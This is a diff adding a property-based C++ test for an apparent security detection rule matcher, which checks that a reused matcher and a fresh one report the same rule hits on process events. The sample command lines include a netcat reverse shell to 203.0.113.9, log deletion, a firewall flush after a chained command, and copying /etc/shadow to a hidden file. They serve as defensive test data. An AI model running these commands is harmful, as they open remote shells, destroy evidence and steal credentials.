@@ -214,6 +214,41 @@ TEST(Matcher, AnswersTheSameWhateverCameBefore) {
     });
 }
 
+TEST(Matcher, RemembersNothingThatAnItemDoesNotSay) {
+    const auto compiled = RuleSet::compile(own_pack().rules, own_pack().words, sample_options());
+    // Fields that rules read, each from few values, so that items differ in one of them and come again.
+    const std::vector<std::string> lines{
+        "nc -e /bin/sh 203.0.113.9 4444", "rm -rf /var/log", "ls -l", "", "./x; iptables -F",
+        " cat /etc/shadow > /tmp/.s"};
+    const std::vector<std::string> images{"/bin/sh", "/tmp/x", "/usr/sbin/nginx", ""};
+    const std::vector<std::string> users{"root", "www-data", ""};
+    const std::vector<std::string> directories{"", "/tmp", "/etc"};
+    rc::check([&] {
+        Matcher used(compiled.rules);
+        const auto any = [](const auto& of) { return *rc::gen::elementOf(of); };
+        for (int i = 0; i < 60; ++i) {
+            const auto line = any(lines), image = any(images), parent = any(images), user = any(users),
+                       directory = any(directories);
+            model::Event event;
+            event.kind = model::EventKind::ProcessCreate;
+            model::Item item;
+            item.payload = model::ProcessCreate{.executable = image,
+                                                .command_line = line,
+                                                .user_name = user,
+                                                .parent_executable = parent,
+                                                .working_directory = directory,
+                                                .process_id = i};
+            const std::pair<std::string_view, std::string_view> extra[] = {{"intel.category", "botnet"}};
+            const auto known = i % 3 == 0 ? ExtraFields(extra) : ExtraFields();
+            Matcher fresh(compiled.rules);
+            std::vector<RuleHit> first, second;
+            used.match(event, item, first, known);
+            fresh.match(event, item, second, known);
+            RC_ASSERT(first == second);
+        }
+    });
+}
+
 TEST(RulePackTest, EveryRuleCompilesAndItsSamplesHold) {
     const auto report = check_rules(own_pack());
     EXPECT_GE(report.total, 30U);
